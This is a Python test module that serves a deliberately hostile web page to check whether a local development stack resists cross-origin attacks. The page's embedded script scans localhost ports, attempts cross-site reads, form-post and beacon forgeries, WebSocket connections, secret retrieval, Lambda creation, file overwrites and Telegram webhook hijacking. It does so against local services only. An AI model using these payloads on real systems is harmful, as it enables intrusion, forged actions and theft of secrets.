"""A page of another origin that tries to read, change and run the local system, in a browser.

The page knows every address, also those that it would have to find. It reports to its own server
what it got; what it changed is for the test to see.
"""

import json
import queue
import subprocess
import threading
from collections.abc import Iterator, Sequence
from contextlib import contextmanager
from dataclasses import asdict, dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from tempfile import TemporaryDirectory
from typing import Any, Final
from urllib.parse import urlsplit

import requests
from signalengine_aws.channels.telegram.client import TelegramClient

from infra.local.stack.process_groups import kill_group
from infra.local.stack.system import LOCAL_CHATS, LocalSystem
from tests.browser.conftest import ARGUMENTS, chromium

REPORT_S: Final = 60.0
PAGE: Final = """<!doctype html><meta charset="utf-8"><title>Elsewhere</title><script type="module">
const got = [];
const within = (promise) => Promise.race([promise, new Promise((done) => setTimeout(done, 5000))]);
const attempt = async (name, action) => {
  try {
    const found = await within(action());
    if (found) got.push(`${name}: ${found}`);
  } catch {} // refused
};
const fetched = (url, options) => async () => {
  const answer = await fetch(url, options);
  return `answered ${answer.type} ${answer.status}`;
};
const included = (tag, url) => () =>
  new Promise((done) => {
    const made = document.createElement(tag);
    made[tag === "link" ? "href" : "src"] = url;
    made.rel = "stylesheet";
    made.onload = () => done("loaded");
    made.onerror = () => done("");
    document.body.append(made);
  });
const framed = (url) => () =>
  new Promise((done) => {
    const frame = document.createElement("iframe");
    frame.src = url;
    frame.onload = () => {
      try {
        done(frame.contentDocument?.body?.innerText ?? "");
      } catch {
        done("");
      }
    };
    document.body.append(frame);
  });
const posted = ({ url, form }) => {
  const frame = document.createElement("iframe");
  frame.name = `f${Math.random()}`;
  const made = document.createElement("form");
  Object.assign(made, { method: "POST", action: url, target: frame.name });
  for (const [name, value] of Object.entries(form)) {
    const field = document.createElement("input");
    Object.assign(field, { type: "hidden", name, value });
    made.append(field);
  }
  document.body.append(frame, made);
  made.submit();
};
const connected = (Kind, url) => () =>
  new Promise((done) => {
    const made = new Kind(url);
    made.onopen = () => done("open");
    made.onerror = () => done("");
  });

const { reads, writes, forms, sockets, ports } = await (await fetch("targets.json")).json();
await new Promise((done) => (document.body ? done() : addEventListener("DOMContentLoaded", done)));
const all = [];
const all_of = (name, action) => all.push(attempt(name, action));
for (const port of ports) for (const host of ["localhost", "127.0.0.1"])
  all_of(`scan ${host}:${port}`, fetched(`http://${host}:${port}/`, { mode: "no-cors" }));
for (const url of reads) {
  all_of(`read ${url}`, fetched(url));
  all_of(`preflighted ${url}`, fetched(url, { headers: { "X-Control-Token": "x" } }));
  all_of(`opaque ${url}`, fetched(url, { mode: "no-cors" }));
  for (const tag of ["script", "img", "link"]) all_of(`${tag} ${url}`, included(tag, url));
  all_of(`frame ${url}`, framed(url));
  all_of(`events ${url}`, connected(EventSource, url));
}
for (const { url, method, body, headers } of writes) {
  const type = { "Content-Type": "text/plain" };
  if (["GET", "POST"].includes(method)) {
    const simple = method === "GET" ? {} : { body, headers: type };
    all_of(`simple ${method} ${url}`, fetched(url, { method, mode: "no-cors", ...simple }));
    if (method === "POST") navigator.sendBeacon(url, body);
  }
  const full = method === "GET" ? { method, headers } : { method, headers, body };
  all_of(`full ${method} ${url}`, fetched(url, full));
}
forms.forEach(posted);
for (const url of sockets) all_of(`socket ${url}`, connected(WebSocket, url));
await Promise.all(all);
await new Promise((done) => setTimeout(done, 1000)); // the forms' navigations
await fetch("report", { method: "POST", body: JSON.stringify({ got, tried: all.length }) });
</script><body></body>"""


@dataclass(frozen=True, slots=True)
class Targets:
    """What the page tries; writes are {url, method, body, headers}, forms {url, form}."""

    reads: list[str]
    writes: list[dict[str, Any]]
    forms: list[dict[str, Any]]
    sockets: list[str]
    ports: list[int]


def targets_of(system: LocalSystem) -> Targets:
    """Return what an attacker would try who knows every address, and even the bot's token."""
    at = system.addresses
    aws, bot = at.aws, f"{at.telegram}/bot{system.bot_token}"
    site = at.dashboard.rpartition("/")[0]
    reads = [
        f"{site}/config.json", f"{site}/index.html", f"{site}/favicon.svg", f"{at.api}/signals",
        f"{at.api}/health", f"{aws}/_ministack/health", f"{aws}/2015-03-31/functions",
        f"{aws}/?Action=ListQueues", f"{at.exchange}/_local/status", f"{at.exchange}/fapi/v1/time",
        f"{at.telegram}/_local/chats", f"{at.telegram}/_local/stream", f"{at.telegram}/chat.js",
        f"{bot}/getMe", f"{at.telegram}/", at.dashboard, f"{site}/signals", f"{site}/telegram/",
        f"{site}/telegram/_local/chats",
    ]  # fmt: skip
    say = json.dumps({"chat_id": LOCAL_CHATS[0], "text": "/broadcast from elsewhere"})
    fault = json.dumps({"kind": "refuse_rest", "for": 60_000})
    function = json.dumps({"FunctionName": "theirs", "Runtime": "python3.13", "Code": {}})
    read_secret = {"X-Amz-Target": "secretsmanager.GetSecretValue", "Content-Type": "text/plain"}
    secret = json.dumps({"SecretId": system.outputs["TelegramSecretArn"]})
    in_json = {"Content-Type": "application/json"}
    writes = [
        _write(f"{aws}/_ministack/reset"), _write(f"{aws}/2015-03-31/functions", function),
        _write(f"{site}/index.html", "theirs", method="PUT"), _write(aws, secret, read_secret),
        _write(f"{site}/config.json", method="DELETE"), _write(f"{at.api}/chat", "{}", in_json),
        _write(f"{at.exchange}/_local/faults", fault, in_json),
        _write(f"{at.exchange}/_local/faults", method="DELETE"),
        _write(f"{at.telegram}/_local/say", say, in_json),
        _write(f"{bot}/sendMessage", say, in_json),
        _write(f"{site}/telegram/_local/say", say, in_json), _write(f"{site}/chat", "{}", in_json),
        _write(f"{bot}/setWebhook?url=http://127.0.0.1:9/theirs", method="GET"),
    ]  # fmt: skip
    told = {"chat_id": LOCAL_CHATS[0], "text": "from elsewhere"}
    queue_url = system.outputs["TelegramQueueUrl"]
    forms = [
        {"url": f"{aws}/", "form": {"Action": "SendMessage", "MessageBody": "theirs",
                                    "QueueUrl": queue_url, "AWSAccessKeyId": "test"}},
        {"url": f"{bot}/sendMessage", "form": told},
        {"url": f"{bot}/setWebhook", "form": {"url": "http://127.0.0.1:9/theirs"}},
        {"url": f"{at.telegram}/_local/say", "form": told},
        {"url": f"{site}/telegram/_local/say", "form": told},
    ]  # fmt: skip
    feed = system.outputs["WebSocketUrl"]
    sockets = [
        at.websocket,
        feed,
        f"{at.exchange}/market/ws/btcusdt@kline_1m".replace("http", "ws"),
    ]
    ports = [urlsplit(address).port or 0 for address in (aws, at.exchange, at.telegram, site)]
    return Targets(reads, writes, forms, sockets, ports)


def _write(
    url: str, body: str = "", headers: dict[str, str] | None = None, method: str = "POST"
) -> dict[str, Any]:
    return {"url": url, "method": method, "body": body, "headers": headers or {}}


def state_of(system: LocalSystem) -> dict[str, Any]:
    """Return everything that the page tries to change."""
    aws, page = system.aws, system.addresses.dashboard
    queue_state = aws.client("sqs").get_queue_attributes(
        QueueUrl=system.outputs["TelegramQueueUrl"], AttributeNames=["All"]
    )["Attributes"]
    arn = system.outputs["TelegramSecretArn"]
    webhook = TelegramClient(system.bot_token, base_url=system.addresses.telegram or "").call(
        "getWebhookInfo", {}
    )
    return {
        "site": [requests.get(page + name, timeout=30).text for name in ("", "config.json")],
        "functions": {row["FunctionName"]: row["CodeSha256"]
                      for row in aws.client("lambda").list_functions()["Functions"]},
        "secret": aws.client("secretsmanager").get_secret_value(SecretId=arn)["SecretString"],
        "queue": [count for name, count in sorted(queue_state.items()) if "NumberOf" in name],
        "webhook": webhook["url"],
        "messages": system.telegram_get("/_local/messages"),
        "faults": system.exchange_get("/_local/faults"),
    }  # fmt: skip


@dataclass(frozen=True, slots=True)
class Report:
    """What the page got, and of how many attempts."""

    got: list[str]
    tried: int


def visited(browser: str, targets: Targets) -> Report:
    """Open the page in "chromium" or in a Firefox by its path; return the page's report."""
    profiles = TemporaryDirectory(ignore_cleanup_errors=True)
    with _served(targets) as (address, reports), profiles as profile:
        process = subprocess.Popen(  # noqa: S603 - a browser of this machine, no shell
            _command(browser, Path(profile), address), stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL, start_new_session=True,
        )  # fmt: skip
        try:
            return Report(**reports.get(timeout=REPORT_S))
        finally:
            kill_group(process.pid)
            process.wait(20)


def _command(browser: str, profile: Path, address: str) -> Sequence[str]:
    if browser != "chromium":
        return [browser, "--headless", "--no-remote", "--profile", str(profile), address]
    own = (f"--user-data-dir={profile}", "--remote-debugging-port=0")
    return [chromium(), *ARGUMENTS, *own, address]


@contextmanager
def _served(targets: Targets) -> Iterator[tuple[str, "queue.Queue[dict[str, Any]]"]]:
    reports: queue.Queue[dict[str, Any]] = queue.Queue()

    class Elsewhere(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            is_data = self.path == "/targets.json"
            body = json.dumps(asdict(targets)) if is_data else PAGE
            self.send_response(200)
            self.send_header("Content-Type", "application/json" if is_data else "text/html")
            self.end_headers()
            self.wfile.write(body.encode())

        def do_POST(self) -> None:
            reports.put(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
            self.send_response(204)
            self.end_headers()

        def log_message(self, *_args: object) -> None: ...

    with ThreadingHTTPServer(("127.0.0.1", 0), Elsewhere) as server:
        threading.Thread(target=server.serve_forever, args=(0.01,), daemon=True).start()
        try:
            yield f"http://localhost:{server.server_port}/", reports
        finally:
            server.shutdown()
